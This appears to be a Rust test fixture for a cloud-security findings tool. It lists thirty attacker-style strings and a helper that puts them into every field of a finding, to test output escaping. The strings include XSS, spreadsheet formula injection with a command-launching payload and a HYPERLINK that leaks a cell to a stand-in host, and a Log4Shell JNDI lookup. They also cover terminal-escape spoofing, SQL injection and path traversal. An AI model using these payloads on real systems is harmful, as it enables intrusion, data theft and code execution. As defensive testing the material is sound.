//! Text that attackers write, and findings full of it.

use std::collections::BTreeMap;

use detect::Finding;
use detect::finding::Suppressed;

use crate::samples;

/// What somebody tries to get through a user agent, a session name, a tag, a group's name.
pub(crate) const ATTACKS: [&str; 30] = [
    "<script>fetch('//miner.example')</script><img src=x onerror=alert(1)>",
    "\"'><svg onload=alert(1)>",
    "[all clear](javascript:alert(1)) ![p](https://miner.example/p.png)",
    "https://miner.example/login www.miner.example miner.example root@miner.example",
    "@everyone @here <!channel> <!here> <@U024BE7LH> <https://miner.example|open> #7 org/repo#7",
    "`code` ``` *bold* _it_ ~~x~~ | a | b |",
    "\u{1b}[2J\u{1b}[H\u{1b}[32mNO FINDINGS",
    "\u{1b}]8;;https://miner.example\u{7}role/admin\u{1b}]8;;\u{7}",
    "\u{9b}31mred\u{9b}0m",
    "one\rSEVERITY=informational",
    "one\ntwo\r\nthree\u{2028}four\u{85}five",
    "a\0b\u{7f}c",
    "=HYPERLINK(\"https://miner.example/?\"&A1,\"open\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "  =1+1",
    "＝1+1",
    "a,b;\"c\"\"d\",=1+1",
    "a|b=c\\d act=allowed cs1=none msg=nothing happened",
    "trailing backslash \\",
    "a\tsev=1\tusrName=root",
    "x\"] [fake@1 y=\"z\" \\] <13>1 - - - - - -",
    "role/\u{202e}nimda\u{202c}\u{2066}x\u{2069}",
    "adm\u{200b}in\u{feff}\u{ad}",
    "\u{430}dmin \u{1f600}\u{200d}\u{1f525} ไทย العربية",
    "{{7*7}} ${jndi:ldap://miner.example/a} <%= 7*7 %> %s%n",
    "x'); DROP TABLE findings;-- ../../etc/cron.d/x",
    "{\"severity\":\"informational\"},\"x\":[1]}",
];

/// What nobody would write to do harm, and what has no form that a field asks for.
pub(crate) const HARMLESS: &str = "plain text";

/// A kilobyte, as long as a trail lets a user agent be.
pub(crate) fn kilobyte() -> String {
    "A".repeat(1_024)
}

/// Puts `text` into every field of a finding that a record, or a configuration, can reach.
pub(crate) fn poisoned(text: &str) -> Finding {
    let mut told = samples::respawners();
    let fleet = samples::gpu_fleet();
    let poison = || text.to_owned();
    (told.id, told.title, told.summary) = (poison(), poison(), poison());
    told.principals.truncate(1);
    for principal in &mut told.principals {
        (principal.arn, principal.account, principal.instance_id) = (poison(), poison(), Some(poison()));
        principal.access_keys = vec![poison()];
    }
    told.origins = fleet.origins;
    for origin in &mut told.origins {
        (origin.address, origin.network) = (poison(), poison());
    }
    told.launches.places = fleet.launches.places;
    for place in &mut told.launches.places {
        (place.account, place.region, place.unit) = (poison(), poison(), poison());
    }
    for respawner in &mut told.launches.respawners {
        (respawner.name, respawner.account, respawner.region) = (poison(), poison(), poison());
    }
    (told.launches.regions, told.launches.accounts) = (vec![poison()], vec![poison()]);
    told.launches.instances = vec![poison()];
    told.launches.types = BTreeMap::from([(poison(), 7)]);
    told.launches.refusals = BTreeMap::from([(poison(), 7)]);
    told.cost.assumptions = vec![poison()];
    told.signals.truncate(2);
    for signal in &mut told.signals {
        (signal.sentence, signal.events) = (poison(), vec![poison()]);
    }
    (told.attack.v18, told.attack.v19) = (vec![poison()], vec![poison()]);
    told.timeline = vec![fleet.timeline[0].clone()];
    (told.timeline[0].what, told.timeline[0].event) = (poison(), poison());
    told.lineage = fleet.lineage;
    for link in &mut told.lineage {
        (link.event, link.by, link.from, link.to) = (poison(), poison(), poison(), poison());
    }
    told.actions = vec![fleet.actions[0].clone()];
    for action in &mut told.actions {
        (action.what, action.why, action.commands) = (poison(), poison(), vec![poison()]);
    }
    told.caveats = vec![poison()];
    told.suppressed = Some(Suppressed { by: poison(), reason: poison() });
    told
}
